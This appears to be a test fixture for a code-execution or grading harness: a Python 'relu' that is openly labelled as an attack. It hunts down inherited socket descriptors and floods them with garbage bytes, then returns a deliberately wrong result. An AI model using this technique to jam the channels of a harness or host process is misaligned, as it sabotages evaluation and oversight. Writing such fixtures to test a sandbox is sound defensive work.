"""Sends noise without any frame.

step: step2
attacks: values
outcome: error of relu
cause: tampered|crashed
"""

import os
import socket
import stat


def sockets():
    for descriptor in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                yield socket.socket(fileno=os.dup(descriptor))
        except OSError:
            continue


def relu(z):
    for channel in sockets():
        channel.sendall(b"\xff" * 4096)
    return z * 0 - 1
